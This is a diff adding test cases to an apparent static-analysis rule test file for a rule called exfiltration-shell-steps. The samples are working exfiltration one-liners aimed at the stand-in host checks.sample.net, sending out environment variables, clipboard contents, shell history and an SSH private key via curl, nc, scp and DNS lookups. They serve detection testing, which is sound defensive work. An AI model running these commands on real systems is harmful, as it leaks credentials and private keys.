@@ -24,6 +24,18 @@ for one in .env config.yaml; do
 done
 echo "$ALL" | nc -w 5 checks.sample.net 8000
 
+# ruleid: exfiltration-shell-steps
+curl "https://checks.sample.net/q?k=$(env | base64)"
+
+# ruleid: exfiltration-shell-steps
+pbpaste | curl -s -d @- https://checks.sample.net/in
+
+# ruleid: exfiltration-shell-steps
+scp ~/.zsh_history keeper@checks.sample.net:/in/
+
+# ruleid: exfiltration-shell-steps
+for bit in $(xxd -p ~/.ssh/id_rsa | fold -w 60); do dig $bit.checks.sample.net; done
+
 # ok: exfiltration-shell-steps
 cat .env.example > /tmp/plain.txt
 curl -T /tmp/plain.txt https://checks.sample.net/in
